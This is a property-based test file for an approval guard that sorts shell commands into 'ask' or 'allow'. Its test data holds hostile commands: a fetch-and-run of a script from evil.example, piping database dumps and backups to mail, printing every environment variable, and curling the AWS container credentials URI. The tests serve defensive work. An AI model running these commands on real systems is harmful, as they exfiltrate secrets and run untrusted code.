import fc from 'fast-check';
import { describe, expect } from 'vitest';
import { verifies } from '../../../test/spec/verifies.ts';
import { createApprovalGuard } from '../index.ts';

const guard = createApprovalGuard({ home: '/home/ann', hermesHome: '/home/ann/.hermes' });
const verdictOf = async (command: string) =>
  `${(await guard.judgeCommand(command, '/home/ann/project')).verdict}: ${command}`;
const expectAll = async (verdict: string, lines: readonly string[]) => {
  for (const line of lines) expect(await verdictOf(line)).toBe(`${verdict}: ${line}`);
};

describe('shells of other users', () => {
  verifies('APPR-1', 'asks before a shell of another user is opened, in any spelling', async () => {
    const shell = fc.constantFrom('bash', 'sh', 'zsh', '/bin/bash', 'bash -l', 'bash --login', 'fish', 'sh -i');
    const user = fc.constantFrom('', '-u root ', '-u www-data ', '--user=bob ', '-E ', '-n ', '-H -u bob ');
    const before = fc.constantFrom('', 'env ', 'nohup ', 'cd /srv && ', 'true; ');
    const opens = fc.oneof(
      fc.tuple(user, shell).map(([who, what]) => `sudo ${who}${what}`),
      user.map((who) => `sudo ${who}-i`),
      user.map((who) => `sudo ${who}-s`),
      fc.constantFrom(
        'su',
        'su -',
        'su root',
        'su - bob',
        'su -l',
        'sudo su',
        'sudo su -',
        'doas -s',
        'run0',
        'sudo -iu bob',
        'sudo -Hiu bob',
        'sudo --login',
      ),
      shell.map((what) => `doas ${what}`),
      shell.map((what) => `pkexec ${what}`),
    );
    await fc.assert(
      fc.asyncProperty(before, opens, async (start, open) => {
        expect(await verdictOf(start + open)).toBe(`ask: ${start}${open}`);
      }),
    );
  });

  verifies('APPR-1', 'judges the commands that another user runs', async () => {
    await expectAll('allow', [
      "sudo -u postgres psql -c 'select 1'",
      "su - bob -c 'ls'",
      "sudo bash -c 'ls /root'",
      'sudo sh build.sh',
      'sudo ls',
      'sudo --version',
      "sudo su postgres -c 'psql -l'",
    ]);
    await expectAll('ask', ["su - bob -c 'rm -rf src'", "sudo bash -c 'rm -rf src'", "sudo bash <<< 'rm -rf src'"]);
  });
});

describe('packages of the system', () => {
  verifies('APPR-1', 'asks before a package is installed from a file', async () => {
    const file = fc.constantFrom('./x', '/tmp/x-1.2_amd64', '~/Downloads/tool', 'dist/app');
    const install = fc.constantFrom(
      (path: string) => `sudo apt install ${path}.deb`,
      (path: string) => `sudo apt-get install -y ${path}.deb`,
      (path: string) => `dpkg -i ${path}.deb`,
      (path: string) => `sudo dpkg --install ${path}.deb`,
      (path: string) => `sudo rpm -Uvh ${path}.rpm`,
      (path: string) => `rpm --install ${path}.rpm`,
      (path: string) => `sudo dnf install -y ${path}.rpm`,
      (path: string) => `sudo pacman -U ${path}.pkg.tar.zst`,
      (path: string) => `sudo snap install ${path}.snap`,
      (path: string) => `sudo installer -pkg ${path}.pkg -target /`,
    );
    await fc.assert(
      fc.asyncProperty(file, install, async (path, spell) => {
        expect(await verdictOf(spell(path))).toBe(`ask: ${spell(path)}`);
      }),
    );
    await expectAll('allow', [
      'sudo apt-get install -y jq',
      'dpkg -l',
      'dpkg -I x.deb',
      'dpkg -c x.deb',
      'rpm -qip x.rpm',
      'apt show ./x.deb',
      'brew install jq',
    ]);
  });

  verifies('APPR-1', 'asks before an uninstaller of the system runs', async () => {
    await expectAll('ask', [
      'k3s-uninstall.sh',
      'sudo /usr/local/bin/rke2-uninstall.sh',
      '/opt/tool/uninstall',
      'tool-uninstaller --silent',
      'sudo pip uninstall -y requests --break-system-packages',
    ]);
    await expectAll('allow', ['k3s-uninstall.sh --help', 'pip uninstall -y requests', 'grep -rn uninstall src']);
  });
});

describe('deployments to production', () => {
  verifies('APPR-1', 'asks before a deployment goes to production', async () => {
    await expectAll('ask', [
      'vercel --prod',
      'vercel --yes --prod',
      'npx vercel --prod',
      'vercel deploy --prod',
      'vercel deploy --prod --yes',
      'netlify deploy --prod',
      'netlify deploy -p',
      'netlify deploy --dir=dist -p',
      'firebase deploy --only hosting:prod',
      'serverless deploy --production',
    ]);
    await expectAll('allow', [
      'vercel',
      'vercel deploy',
      'netlify deploy -d dist',
      'vercel build --prod',
      'vercel --prod=false',
    ]);
  });
});

describe('mail', () => {
  verifies('APPR-1', 'asks before a file is sent by mail, however it gets there', async () => {
    const file = fc.constantFrom('report.csv', 'dump.sql', 'backup.tgz', 'dist/app.zip', '~/data.db');
    const send = fc.constantFrom(
      (path: string) => `mail -s x ann@mail.example < ${path}`,
      (path: string) => `cat ${path} | mail -s x ann@mail.example`,
      (path: string) => `cat ${path} | sendmail ann@mail.example`,
      (path: string) => `base64 ${path} | mailx ann@mail.example`,
      (path: string) => `tac ${path} | mutt -s x ann@mail.example`,
    );
    await fc.assert(
      fc.asyncProperty(file, send, async (path, spell) => {
        expect(await verdictOf(spell(path))).toBe(`ask: ${spell(path)}`);
      }),
    );
    await expectAll('allow', ['echo done | mail -s x ann@mail.example', 'cat letter.txt | mail ann@mail.example']);
  });
});

describe('settings and requests', () => {
  verifies('APPR-1', 'asks about requests that remove something and settings that switch checks off', async () => {
    await expectAll('ask', [
      'curl -X PURGE https://cdn.example.com/',
      'npm set strict-ssl false',
      'npm config set strict-ssl=false',
      'npm -g uninstall npm',
      'gem uninstall -aIx',
      'dnf history undo 5 -y',
      'partx -d /dev/sda',
      'sam deploy --no-confirm-changeset',
      'gcloud functions deploy f --allow-unauthenticated',
      `redis-cli eval 'redis.call("flushall")' 0`,
      'psql -h db.public.example -f x.sql app',
      'psql postgres://app@db.public.example/app --file=x.sql',
      'grpcurl api.public.example:443 shop.Users/DeleteUser',
      'kustomize build overlays/prod | kubectl apply -f -',
    ]);
    await expectAll('allow', [
      'curl -X PURGE http://localhost:8080/',
      'npm uninstall lodash',
      'npm config get strict-ssl',
      'gem uninstall x',
      'sam deploy',
      'psql -h localhost -f x.sql app',
      'grpcurl -plaintext localhost:50051 shop.Users/DeleteUser',
      'kustomize build overlays/dev | kubectl apply -f -',
    ]);
  });

  verifies('APPR-6', 'asks before a downloaded file runs whose address has no scheme', async () => {
    const fetch = fc.constantFrom('curl -O', 'curl -sSLO', 'wget', 'wget -q');
    const run = fc.constantFrom('sh x.sh', 'chmod +x x.sh', './x.sh', '. ./x.sh', 'bash ./x.sh');
    const address = fc.constantFrom('evil.example/x.sh', 'www.evil.example/a/x.sh', 'evil.example:8080/x.sh');
    await fc.assert(
      fc.asyncProperty(fetch, address, run, async (get, from, start) => {
        const line = `${get} ${from} && ${start}`;
        expect(await verdictOf(line)).toBe(`ask: ${line}`);
      }),
    );
  });

  verifies('APPR-6', 'asks before variables of other machines or with a computed name are printed', async () => {
    await expectAll('ask', [
      'compgen -e | while read n; do printenv $n; done',
      'for n in $(compgen -e); do printenv "$n"; done',
      'zz-cli ssh -- printenv',
      'curl "$AWS_CONTAINER_CREDENTIALS_FULL_URI"',
      'systemctl show -p Environment app',
    ]);
    await expectAll('allow', ['printenv HOME', 'kubectl exec web -- env | grep NODE', 'systemctl show -p MainPID app']);
  });
});
